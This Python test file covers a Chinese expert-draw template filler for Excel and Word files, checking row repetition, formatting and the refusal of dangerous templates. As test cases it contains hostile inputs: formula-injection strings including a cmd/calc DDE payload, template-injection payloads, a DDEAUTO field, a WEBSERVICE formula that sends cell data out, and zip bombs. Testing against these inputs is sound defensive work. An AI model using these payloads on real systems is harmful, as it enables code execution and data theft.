"""Customers' templates: what is filled, what moves with a repeated row, what is refused."""

from __future__ import annotations

import io
import re
from html import unescape
from typing import Any

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation
from python_calamine import CalamineWorkbook

from expertpool.core.filling import (
    TemplateRefused,
    check_template,
    fill_template,
    sample_of,
)
from expertpool.core.placeholders import Placeholder, Vocabulary
from tests.core.filling.office import (
    REL,
    WORD,
    add_part,
    book_bytes,
    changed,
    document_lines,
    docx_bytes,
    paragraph,
    read_book,
    run,
    table,
    unzipped,
    zipped,
)

VOCABULARY = Vocabulary(
    fields=(
        Placeholder("项目名称", "市第一医院信息化项目"),
        Placeholder("抽取人数", 3),
        Placeholder("抽取条件", "综合"),
    ),
    columns=(
        Placeholder("专家.序号", 1),
        Placeholder("专家.姓名", "王建国"),
        Placeholder("专家.电话", "138****0001"),
    ),
)
VALUES: dict[str, Any] = {"项目名称": "道路改造 <A&B>", "抽取人数": 3, "抽取条件": "综合\n土建"}
LINES: list[dict[str, Any]] = [
    {"专家.序号": at, "专家.姓名": name, "专家.电话": "138****0001"}
    for at, name in enumerate(["王一", "李二", "张三"], start=1)
]


def fill(content: bytes, lines: list[dict[str, Any]] | None = None, **values: Any) -> bytes:
    check_template(content, VOCABULARY)
    return fill_template(
        content, VOCABULARY, values=VALUES | values, lines=LINES if lines is None else lines
    )


def problems(content: bytes) -> list[str]:
    with pytest.raises(TemplateRefused) as refused:
        check_template(content, VOCABULARY)
    return list(refused.value.problems)


def make_book(**cells: Any) -> openpyxl.Workbook:
    """A template as a clerk makes it: title, project, head of the table, one row, a foot."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    standard = {
        "A1": "{{项目名称}}抽取表",
        "A3": "序号",
        "B3": "姓名",
        "C3": "电话",
        "A4": "{{专家.序号}}",
        "B4": "{{专家.姓名}}",
        "C4": "{{专家.电话}}",
        "A5": "合计",
        "A6": "监督人：",
    }
    for place, value in (standard | cells).items():
        sheet[place] = value
    return book


# --- Excel ---------------------------------------------------------------------------------------


@pytest.mark.shows("DRAW-27")
def test_a_row_repeats_and_the_rest_moves_down() -> None:
    sheet = read_book(
        fill(book_bytes(make_book(B2="{{抽取人数}}", C2="共 {{抽取人数}} 人")))
    ).active
    rows = [list(row) for row in sheet.values]
    assert rows[0][0] == "道路改造 <A&B>抽取表"
    assert rows[1] == [None, 3, "共 3 人"]
    assert rows[3:6] == [
        [at, name, "138****0001"] for at, name in enumerate(["王一", "李二", "张三"], 1)
    ]
    assert [row[0] for row in rows[6:]] == ["合计", "监督人："]
    assert sheet["B2"].data_type == "n"


def test_another_reader_reads_the_same() -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(fill(book_bytes(make_book()))))
    rows = book.get_sheet_by_index(0).to_python()
    assert rows[4] == [2.0, "李二", "138****0001"]


def test_without_lines_the_row_stays_empty_and_with_one_nothing_moves() -> None:
    empty = [list(row) for row in read_book(fill(book_bytes(make_book()), [])).active.values]
    assert empty[3:] == [["", "", ""], ["合计", None, None], ["监督人：", None, None]]
    one = [list(row) for row in read_book(fill(book_bytes(make_book()), LINES[:1])).active.values]
    assert [row[0] for row in one[3:]] == [1, "合计", "监督人："]


def test_merged_cells_heights_styles_and_print_settings_follow() -> None:
    book = make_book()
    sheet = book.active
    assert sheet is not None
    sheet.merge_cells("A1:C1")
    sheet.merge_cells("B4:C4")
    sheet.merge_cells("A5:B6")
    sheet.merge_cells("D3:D5")
    sheet.row_dimensions[4].height = 31
    sheet.row_dimensions[6].height = 44
    sheet["A4"].font = Font(name="仿宋", size=14)
    sheet["C6"].fill = PatternFill("solid", fgColor="FFEEEEEE")
    sheet.print_title_rows = "1:3"
    sheet.print_area = "A1:D6"
    sheet.row_breaks.append(openpyxl.worksheet.pagebreak.Break(id=5))
    filled = read_book(fill(book_bytes(book))).active
    merged = {str(area) for area in filled.merged_cells.ranges}
    assert merged == {"A1:C1", "B4:C4", "B5:C5", "B6:C6", "A7:B8", "D3:D7"}
    assert [filled.row_dimensions[row].height for row in (4, 5, 6, 8)] == [31, 31, 31, 44]
    assert {filled.cell(row, 1).font.name for row in (4, 5, 6)} == {"仿宋"}
    assert filled["C8"].fill.fgColor.rgb == "FFEEEEEE"
    assert filled.print_title_rows == "$1:$3"
    assert filled.print_area == "'Sheet'!$A$1:$D$8"
    assert [one.id for one in filled.row_breaks.brk] == [7]


def test_formulas_follow_their_cells() -> None:
    book = make_book(
        D4="=B4&C4",
        E4="=SUM(A4:A4)",
        F4="=COUNTA(B$4:B4)",
        B5="=SUM(A4:A4)",
        C5="=B5+A6",
        D5='="A5"',
    )
    other = book.create_sheet("汇总")
    other["A1"] = "=Sheet!B5"
    filled = read_book(fill(book_bytes(book)))
    sheet = filled.active
    assert [sheet[f"D{row}"].value for row in (4, 5, 6)] == ["=B4&C4", "=B5&C5", "=B6&C6"]
    assert [sheet[f"E{row}"].value for row in (4, 6)] == ["=SUM(A4:A4)", "=SUM(A6:A6)"]
    assert [sheet[f"F{row}"].value for row in (4, 6)] == ["=COUNTA(B$4:B4)", "=COUNTA(B$4:B6)"]
    assert [sheet[f"{column}7"].value for column in "BCD"] == ["=SUM(A4:A6)", "=B7+A8", '="A5"']
    assert filled["汇总"]["A1"].value == "=Sheet!B7"
    assert filled.calculation.fullCalcOnLoad


def test_shared_formulas_are_each_cells_own() -> None:
    content = book_bytes(make_book(D3="=A3*2", D4="=A4*2", D5="=A5*2"))
    xml = unzipped(content)["xl/worksheets/sheet1.xml"].decode()
    xml = xml.replace("<f>A3*2</f>", '<f t="shared" ref="D3:D5" si="0">A3*2</f>')
    for at in (4, 5):
        xml = xml.replace(f"<f>A{at}*2</f>", '<f t="shared" si="0"/>')
    filled = read_book(fill(changed(content, **{"xl/worksheets/sheet1.xml": xml}))).active
    assert [filled[f"D{row}"].value for row in range(3, 8)] == [f"=A{row}*2" for row in range(3, 8)]


def test_conditions_and_choices_reach_over_the_copies() -> None:
    book = make_book()
    sheet = book.active
    assert sheet is not None
    sheet.conditional_formatting.add("A4:C4", FormulaRule(formula=["$A4>1"]))
    choice = DataValidation(type="list", formula1="$A$6:$A$7")
    choice.add("C4")
    choice.add("C6")
    sheet.add_data_validation(choice)
    filled = read_book(fill(book_bytes(book))).active
    assert [str(area.sqref) for area in filled.conditional_formatting] == ["A4:C6"]
    [validation] = filled.data_validations.dataValidation
    assert validation.formula1 == "$A$8:$A$9"
    assert "C8" in str(validation.sqref)


def test_several_rows_and_sheets_each_repeat() -> None:
    book = make_book(A5="{{专家.姓名}}", B6="尾")
    second = book.create_sheet("签到")
    second["A1"] = "{{专家.姓名}}"
    filled = read_book(fill(book_bytes(book)))
    column = [row[0] for row in filled.active.values]
    assert column[3:] == [1, 2, 3, "王一", "李二", "张三", "监督人："]
    assert [row[0] for row in filled["签到"].values] == ["王一", "李二", "张三"]


def test_headers_and_footers_are_filled() -> None:
    book = make_book()
    sheet = book.active
    assert sheet is not None
    sheet.oddHeader.center.text = "{{项目名称}}"
    sheet.oddFooter.left.text = "{{抽取人数}}"
    sheet.oddFooter.left.size = 9
    xml = unzipped(fill(book_bytes(book)))["xl/worksheets/sheet1.xml"].decode()
    assert "道路改造 &lt;A&amp;&amp;B&gt;" in xml
    assert "&amp;L&amp;9 3" in xml.replace("&amp;9  3", "&amp;9 3")


@pytest.mark.shows("DRAW-27")
@pytest.mark.parametrize(
    "evil", ['=HYPERLINK("http://x")', "+1+1", "-2", "@SUM(A1)", "=cmd|' /C calc'!A0"]
)
def test_values_are_never_formulas(evil: str) -> None:
    lines = [LINES[0] | {"专家.姓名": evil}]
    cell = read_book(fill(book_bytes(make_book()), lines, 项目名称=evil)).active["B4"]
    assert (cell.value, cell.data_type) == (evil, "s")
    assert (
        "<f>"
        not in unzipped(fill(book_bytes(make_book()), lines))["xl/worksheets/sheet1.xml"].decode()
    )


def test_values_are_text_of_any_kind() -> None:
    lines = [LINES[0] | {"专家.姓名": "{{抽取人数}}\x00\x1b _x0041_ 第一行\n第二行  "}]
    sheet = read_book(fill(book_bytes(make_book()), lines)).active
    # openpyxl shows the escape that keeps Excel from reading a character code.
    assert sheet["B4"].value.replace("_x005F_", "_") == "{{抽取人数}} _x0041_ 第一行\n第二行  "


def test_formatting_inside_a_cell_stays() -> None:
    content = book_bytes(make_book())
    # As characters: which of two parsers is installed decides how the library writes them.
    strings = unescape(unzipped(content)["xl/sharedStrings.xml"].decode())
    rich = "<si><r><rPr><b/></rPr><t>{{项目</t></r><r><t>名称}}抽取表</t></r></si>"
    strings = strings.replace("<si><t>{{项目名称}}抽取表</t></si>", rich)
    assert rich in strings
    xml = unzipped(fill(changed(content, **{"xl/sharedStrings.xml": strings})))
    sheet = xml["xl/worksheets/sheet1.xml"].decode()
    assert '<rPr><b/></rPr><t xml:space="preserve">道路改造 &lt;A&amp;B&gt;</t>' in sheet
    assert "抽取表</t>" in sheet


def test_text_boxes_are_filled_and_move() -> None:
    drawing = (
        '<xdr:wsDr xmlns:xdr="urn:xdr" xmlns:a="urn:a"><xdr:twoCellAnchor>'
        "<xdr:from><xdr:col>0</xdr:col><xdr:row>5</xdr:row></xdr:from>"
        "<xdr:to><xdr:col>2</xdr:col><xdr:row>7</xdr:row></xdr:to><xdr:sp><xdr:txBody>"
        "<a:p><a:r><a:t>{{项目</a:t></a:r><a:r><a:t>名称}}</a:t></a:r></a:p>"
        "</xdr:txBody></xdr:sp></xdr:twoCellAnchor></xdr:wsDr>"
    )
    content = add_part(
        book_bytes(make_book()),
        "xl/drawings/drawing1.xml",
        to="xl/worksheets/sheet1.xml",
        kind="drawing",
        data=drawing,
    )
    xml = unzipped(fill(content))["xl/drawings/drawing1.xml"].decode()
    assert "<xdr:row>7</xdr:row>" in xml
    assert "<xdr:row>9</xdr:row>" in xml
    assert "道路改造 &lt;A&amp;B&gt;</a:t>" in xml


def test_what_was_computed_before_is_dropped() -> None:
    content = book_bytes(make_book(B5="=SUM(A4:A4)"))
    xml = unzipped(content)["xl/worksheets/sheet1.xml"].decode()
    xml = re.sub(r"(<f>SUM\(A4:A4\)</f>)<v ?(?:/>|></v>)", r"\1<v>77</v>", xml)
    content = add_part(
        changed(content, **{"xl/worksheets/sheet1.xml": xml}),
        "xl/calcChain.xml",
        to="xl/workbook.xml",
        kind="calcChain",
        data="<calcChain/>",
    )
    assert "<v>77</v>" in unzipped(content)["xl/worksheets/sheet1.xml"].decode()
    filled = unzipped(fill(content))
    assert "xl/calcChain.xml" not in filled
    assert b"calcChain" not in filled["[Content_Types].xml"] + filled["xl/_rels/workbook.xml.rels"]
    assert b"77" not in filled["xl/worksheets/sheet1.xml"]


def test_texts_may_stand_in_the_cells_themselves() -> None:
    stream = io.BytesIO()
    make_book().save(stream)
    assert b"inlineStr" in unzipped(stream.getvalue())["xl/worksheets/sheet1.xml"]
    rows = [list(row) for row in read_book(fill(stream.getvalue())).active.values]
    assert [row[1] for row in rows[3:6]] == ["王一", "李二", "张三"]


def test_full_width_braces_and_spaces_are_understood() -> None:
    filled = read_book(
        fill(book_bytes(make_book(A1="｛｛ 项目名称 ｝｝", B4="{{专家．姓名}}")))
    ).active
    assert (filled["A1"].value, filled["B4"].value) == ("道路改造 <A&B>", "王一")


def test_the_same_input_gives_the_same_bytes() -> None:
    content = book_bytes(make_book())
    assert fill(content) == fill(content)


# --- Word ----------------------------------------------------------------------------------------


@pytest.mark.shows("DRAW-27")
def test_placeholders_that_word_split_are_joined() -> None:
    body = paragraph("项目：", "{", "{项目", "名称", "}", "}（共", "{{抽取人数}}", "人）") + table(
        ("序号", "姓名"), ("{{专家.序号}}", "{{专家.姓名}}"), ("合计", "")
    )
    content = docx_bytes(body, header=paragraph("{{项目名称}}"))
    assert check_template(content, VOCABULARY) == "docx"
    filled = fill(content)
    lines = document_lines(filled)
    assert lines[0] == "项目：道路改造 &lt;A&amp;B&gt;（共3人）"
    assert lines[1:] == ["序号", "姓名", "1", "王一", "2", "李二", "3", "张三", "合计", ""]
    assert document_lines(filled, "word/header1.xml") == ["道路改造 &lt;A&amp;B&gt;"]


def test_a_value_takes_the_look_of_where_its_placeholder_begins() -> None:
    body = f"<w:p>{run('{{项目', '<w:b/>')}{run('名称}}后', '<w:i/>')}</w:p>"
    xml = unzipped(fill(docx_bytes(body)))["word/document.xml"].decode()
    assert '<w:b/></w:rPr><w:t xml:space="preserve">道路改造' in xml
    assert '<w:i/></w:rPr><w:t xml:space="preserve">后</w:t>' in xml


def test_lines_of_a_value_are_lines_in_word() -> None:
    assert document_lines(fill(docx_bytes(paragraph("{{抽取条件}}。")))) == ["综合\n土建。"]


def test_what_the_file_declares_stays() -> None:
    xml = unzipped(fill(docx_bytes(paragraph("{{项目名称}}"))))["word/document.xml"].decode()
    assert 'xmlns:w14="urn:w14"' in xml
    assert 'mc:Ignorable="w14"' in xml


def test_copies_of_a_row_do_not_share_what_is_unique() -> None:
    row = (
        '<w:tr w14:paraId="1A"><w:tc><w:p><w:bookmarkStart w:id="1" w:name="x"/>'
        f'{run("{{专家.姓名}}")}<w:bookmarkEnd w:id="1"/></w:p></w:tc></w:tr>'
    )
    xml = unzipped(fill(docx_bytes(f"<w:tbl>{row}</w:tbl>")))["word/document.xml"].decode()
    assert (xml.count("bookmarkStart"), xml.count("paraId"), xml.count("<w:tr")) == (1, 1, 3)


def test_a_text_box_is_not_mixed_with_the_paragraph_around_it() -> None:
    inner = f"<w:r><w:pict><w:txbxContent>{paragraph('{{抽取', '人数}}')}</w:txbxContent></w:pict></w:r>"
    xml = unzipped(fill(docx_bytes(f"<w:p>{run('{{项目')}{inner}{run('名称}}')}</w:p>")))
    text = xml["word/document.xml"].decode()
    assert ">3</w:t>" in text
    assert ">道路改造 &lt;A&amp;B&gt;</w:t>" in text


# --- Refusals ------------------------------------------------------------------------------------


@pytest.mark.shows("DRAW-27")
def test_unknown_names_are_all_listed_with_their_place_and_the_nearest_name() -> None:
    found = problems(book_bytes(make_book(A1="{{项目名}}", C2="{{随便}}", C4="{{专家.手机}}")))
    assert found == [
        "工作表「Sheet」单元格 A1：没有变量 {{项目名}}，是否要用 {{项目名称}}？",
        "工作表「Sheet」单元格 C2：没有变量 {{随便}}",
        "工作表「Sheet」单元格 C4：没有变量 {{专家.手机}}，是否要用 {{专家.电话}}？",
    ]
    body = paragraph("好") + paragraph("项目：{{项", "目}}") + paragraph("{%tr for 专家 in 名单 %}")
    found = problems(docx_bytes(body, header=paragraph("{{页眉}}")))
    assert found[0].startswith("正文第 2 段「项目：{{项目}}」：没有变量 {{项目}}")
    assert found[1].startswith(
        "正文第 3 段「{%tr for 专家 in 名单 %}」：没有变量 {%tr for 专家 in 名单 %}"
    )
    assert found[2] == "页眉第 1 段「{{页眉}}」：没有变量 {{页眉}}"


@pytest.mark.shows("DRAW-27")
@pytest.mark.parametrize(
    "evil",
    [
        "{{ ''.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ config }}",
        "{{ 项目名称.__init__.__globals__ }}",
        "{% for x in range(10**9) %}{% endfor %}",
        "{{ 7*7 }}",
    ],
)
def test_nothing_in_a_template_is_ever_evaluated(evil: str) -> None:
    for content in (book_bytes(make_book(A1=evil)), docx_bytes(paragraph(evil))):
        assert any("没有变量" in problem for problem in problems(content))


def test_what_stands_in_the_wrong_place_is_named() -> None:
    assert "只能写在表格的一行里" in problems(docx_bytes(paragraph("{{专家.姓名}}")))[0]
    assert "双花括号没有配对" in problems(book_bytes(make_book(A1="{{项目名称}")))[0]
    assert "公式里不能用变量" in problems(book_bytes(make_book(D1='="a"&"{{项目名称}}"')))[0]
    assert "模板里没有变量" in problems(docx_bytes(paragraph("空表")))[0]
    nested = f"<w:tbl><w:tr><w:tc>{paragraph('{{专家.姓名}}')}{table(('{{专家.姓名}}',))}</w:tc></w:tr></w:tbl>"
    assert any("再套一个" in problem for problem in problems(docx_bytes(nested)))


def test_many_problems_are_cut_short() -> None:
    book = make_book(**{f"E{row}": f"{{{{错{row}}}}}" for row in range(1, 400)})
    found = problems(book_bytes(book))
    assert (len(found), found[-1]) == (51, "还有 349 处。")


@pytest.mark.shows("DRAW-27")
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "打不开"),
        (b"PK\x03\x04 broken", "打不开"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "旧格式或带密码"),
        (zipped({"a.txt": "x"}), "只能上传"),
        (docx_bytes("", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "宏"),
        (docx_bytes(paragraph("{{项目名称}}"), more={"word/vbaProject.bin": b"x"}), "宏"),
        (docx_bytes("", main_type=f"{WORD}.template.main+xml"), "只能上传"),
        (docx_bytes("", more={"word/embeddings/oleObject1.bin": b"x"}), "嵌入"),
        (docx_bytes("", more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "链接了其他文件"),
        (docx_bytes("", more={"word/x.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), "损坏"),
        (docx_bytes("", more={"word/x.xml": "<a>" * 300 + "</a>" * 300}), "内容太多"),
        (docx_bytes("", more={"word/x.xml": f"<a>{'<b/>' * 50_001}</a>"}), "内容太多"),
        (docx_bytes("", more={"word/x.xml": "<a>"}), "损坏"),
        (docx_bytes("", more={f"word/{at}.bin": b"" for at in range(600)}), "损坏"),
        (docx_bytes("", more={"word/media/bomb.bin": bytes(60_000_000)}), "解开后太大"),
        (docx_bytes("", more={"word/bomb.xml": b" " * 6_000_000}), "解开后太大"),
        (docx_bytes(f'<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>{run("{{项目名称}}")}</w:p>'), "DDE"),
        (docx_bytes("<w:p><w:r><w:instrText>DDEA</w:instrText><w:instrText>UTO x</w:instrText></w:r></w:p>"), "DDE"),
        (book_bytes(make_book(**{f"E{at}": f"={'A1+' * 2000}1" for at in range(1, 10)})), "公式太多"),
        (book_bytes(make_book(D1='=WEBSERVICE("http://x/"&B4)')), "取外部内容"),
        (book_bytes(make_book(**{f"E{at}": "{{专家.姓名}}" for at in range(4, 10)})), "重复的行太多"),
        (docx_bytes(table(*[("{{专家.姓名}}",)] * 6)), "重复的行太多"),
        (docx_bytes(table(("{{专家.姓名}}",) * 401)), "重复的行太多"),
        (bytes(21 * 1024**2), "文件太大"),
    ],
)  # fmt: skip
def test_hostile_and_foreign_files_are_refused(content: bytes, message: str) -> None:
    assert message in "；".join(problems(content))


@pytest.mark.parametrize(
    ("kind", "target", "allowed"),
    [
        ("hyperlink", "https://example.cn/", True),
        ("hyperlink", "file:///C:/x.exe", False),
        ("image", "http://example.cn/track.png", False),
        ("attachedTemplate", "file:///C:/Users/a/x.dotx", True),
        ("oleObject", "file:///C:/x.xlsx", False),
    ],
)
def test_only_links_to_pages_lead_out_of_a_template(kind: str, target: str, allowed: bool) -> None:
    relation = (
        f'<Relationship Id="rIdT" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
    )
    content = docx_bytes(paragraph("{{项目名称}}"), relations=relation)
    if not allowed:
        assert "链接了外部" in problems(content)[0]
        return
    filled = unzipped(fill(content))
    remembered = kind == "hyperlink"
    assert (target.encode() in filled["word/_rels/document.xml.rels"]) == remembered
    assert (b"attachedTemplate" in filled["word/settings.xml"]) == remembered


def test_a_damaged_workbook_is_refused_not_an_error() -> None:
    content = book_bytes(make_book())
    sheet = unzipped(content)["xl/worksheets/sheet1.xml"].decode()
    for broken in (
        sheet.replace('r="A1"', 'r="?"'),
        sheet.replace("<v>0</v>", "<v>999</v>"),
        sheet.replace("<v>0</v>", "<v>x</v>"),
        '<worksheet xmlns="urn:x"/>',
    ):
        assert problems(changed(content, **{"xl/worksheets/sheet1.xml": broken}))
    assert problems(changed(content, **{"xl/worksheets/sheet1.xml": None}))


def test_a_sample_is_filled_with_the_samples() -> None:
    sheet = read_book(sample_of(book_bytes(make_book()), VOCABULARY)).active
    assert [cell.value for cell in sheet["B"][3:6]] == ["王建国"] * 3
    assert sheet["A1"].value == "市第一医院信息化项目抽取表"
